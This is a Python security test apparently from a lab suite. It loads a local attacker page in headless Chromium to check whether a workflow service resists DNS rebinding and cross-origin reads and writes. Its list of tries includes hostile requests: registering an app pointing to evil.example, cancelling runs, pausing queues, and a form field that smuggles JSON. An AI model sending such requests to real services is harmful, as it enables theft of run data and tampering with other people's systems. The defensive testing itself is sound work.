"""A browser on this machine that shows a page of another site."""
import http.server
import json
import os
import shutil
import subprocess
import threading
import time

from .lab import ROOT, Tenant, Trial, end, free_port, spawn
from .table import row

EVIL = 'evil.example'  # the browser resolves it to this machine
PAGE = b'<!doctype html><title>page</title><body><script src="http://%s:%d/page.js"></script>'


def chromium():
    """Makes sure that the browser is there, while this process still has the machine's network."""
    subprocess.run([os.path.join(ROOT, 'scripts/need.sh'), 'chromium', 'chromium', 'for a page of another site'], check=True)


class Site:
    """The server of the attacker: the page, its script, what it is to try, and what came of it."""

    def __init__(self):
        self.work, self.report, self.arrived, self.done = None, None, threading.Event(), threading.Event()
        site, script = self, open(os.path.join(ROOT, 'scripts/attacks/page.js'), 'rb').read()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path == '/page.js':
                    self.answer(script, 'text/javascript')
                elif self.path == '/work':
                    site.arrived.set()
                    self.answer(json.dumps(site.work).encode(), 'application/json')
                else:
                    self.answer(PAGE % (EVIL.encode(), site.port), 'text/html')

            def do_POST(self):
                site.report = json.loads(self.rfile.read(int(self.headers['Content-Length'])))
                self.answer(b'', 'text/plain')
                site.done.set()

            def answer(self, body, kind):
                self.send_response(200)
                self.send_header('Content-Type', kind)
                self.send_header('Content-Length', str(len(body)))
                self.send_header('Access-Control-Allow-Origin', '*')
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        self._handler = Handler
        self._server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def also_on(self, port):
        """Serves the page at another port too, until the returned function is called."""
        server = http.server.ThreadingHTTPServer(('127.0.0.1', port), self._handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()

        def stop():
            server.shutdown()
            server.server_close()

        return stop

    def end(self):
        self._server.shutdown()
        self._server.server_close()


def browse(t: Trial, url):
    home = os.path.join(t.folder, f'browser-{time.monotonic_ns()}')
    os.mkdir(home)
    browser = spawn(
        [
            shutil.which('chromium'),
            '--headless=new',
            '--no-sandbox',
            '--disable-gpu',
            '--disable-dev-shm-usage',
            '--no-first-run',
            '--disable-background-networking',
            '--disable-component-update',
            '--disable-sync',
            '--no-proxy-server',
            f'--user-data-dir={home}',
            f'--host-resolver-rules=MAP {EVIL} 127.0.0.1',
            url,
        ],
        {'HOME': home},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    t.cleanup(end, browser)
    return browser


def tries_of(base, run, where):
    """What the page tries against a service: all that reads, and all that changes something."""
    socket = base.replace('http', 'ws') + '/v1/calls'
    app, cancel = json.dumps({'baseUrl': f'http://{EVIL}', 'deploymentId': 'evil'}), json.dumps({'runIds': [run]})
    out = [
        {'kind': 'fetch', 'url': base + path}
        for path in ('/v1/runs', f'/v1/runs/{run}', '/v1/apps', '/v1/queue', f'/v1/runs/{run}/events', '/metrics')
    ]
    posts = [
        ('/v1/apps', app),
        ('/v1/runs/cancel', cancel),
        ('/v1/queue/flows/pause', ''),
        ('/v1/queue/redrive', '{"all":true}'),
        ('/.well-known/workflow/v1/flow', '{}'),
    ]
    for kind in ('application/json', 'text/plain', 'application/x-www-form-urlencoded'):
        for path, body in posts:
            out.append({'kind': 'fetch', 'url': base + path, 'method': 'POST', 'body': body, 'type': kind})
            if where == 'elsewhere' and kind != 'application/json':
                out.append({'kind': 'fetch', 'url': base + path, 'method': 'POST', 'body': body, 'type': kind, 'mode': 'no-cors'})
    out += [
        {'kind': 'form', 'url': base + '/v1/apps', 'type': 'text/plain', 'name': app[:-1] + ',"x":"', 'value': '"}'},
        {'kind': 'form', 'url': base + '/v1/queue/steps/pause', 'type': 'application/x-www-form-urlencoded', 'name': 'a', 'value': 'b'},
        {'kind': 'socket', 'url': socket},
        {'kind': 'events', 'url': f'{base}/v1/runs/{run}/streams/s'},
    ]
    return out


@row('8b', 'the same from Chromium: a page whose name comes to resolve to this machine, and a page of another origin')
def page(t: Trial):
    port, site = free_port(), Site()
    t.cleanup(site.end)
    # The page is loaded from its own server at the port of the service; then the service stands there, under the same name.
    moved = site.also_on(port)
    browse(t, f'http://{EVIL}:{port}/')
    loaded = site.arrived.wait(90)
    moved()
    if not t.expect(loaded, 'the browser did not load the page'):
        return
    b = t.service_b_at(port)
    me = Tenant(port)
    run = me.plant_run(b'secret input')
    me.chunk(run, b'secret chunk')
    with t.measured(b, token=None):
        for where, base in (
            ('rebound', f'http://{EVIL}:{port}'),
            ('elsewhere', f'http://127.0.0.1:{port}'),
            ('elsewhere', f'http://localhost:{port}'),
        ):
            if where == 'elsewhere':
                browse(t, f'http://{EVIL}:{site.port}/')
            site.done.clear()
            site.work = tries_of(base, run, where)
            if not t.expect(site.done.wait(90), f'{where}: the page did not report'):
                return
            tried, site.work = site.work, None
            answers = {}
            for one, got in zip(tried, site.report):
                name = f'{where}: {one["kind"]} {one.get("method", "")} {one["url"].replace(base, "")} {one.get("type", "")} {one.get("mode", "")}'
                text = got.get('text', '')
                t.expect(
                    'secret' not in text and 'c2Vjcm' not in text and 'wrun_' not in text.replace(run, '') and not got.get('open'),
                    f'{name}: {got}',
                )
                if where == 'rebound' and one['kind'] == 'fetch':
                    t.expect(got.get('status') == 403, f'{name}: {got}')
                elif one['kind'] == 'fetch':
                    t.expect(got.get('type') == 'opaque' or 'error' in got, f'{name}: the page can read {got}')
                key = str(
                    got.get('status') or ('open' if got.get('open') else got.get('type') or ('sent' if got.get('sent') else 'refused'))
                )
                answers[key] = answers.get(key, 0) + 1
            t.saw(
                f'{where} ({base.split("//")[1].split(":")[0]}): {len(tried)} tries: '
                + ', '.join(f'{n} x {k}' for k, n in sorted(answers.items()))
            )
            state = me.call('GET', f'/v1/runs/{run}').json.get('status')
            t.expect(state == 'pending', f'{where}: the run is {state}')
            apps = me.call('GET', '/v1/apps').json.get('data')
            t.expect(not apps, f'{where}: an app was registered: {apps}')
            queues = me.call('GET', '/v1/queue').json['data']
            t.expect(not any(q['paused'] for q in queues), f'{where}: a queue was paused')
            t.expect(
                sum(q.get(k, 0) for q in queues for k in ('pending', 'active', 'scheduled', 'retry', 'dead', 'completed', 'stalled')) == 0,
                f'{where}: a message was queued',
            )
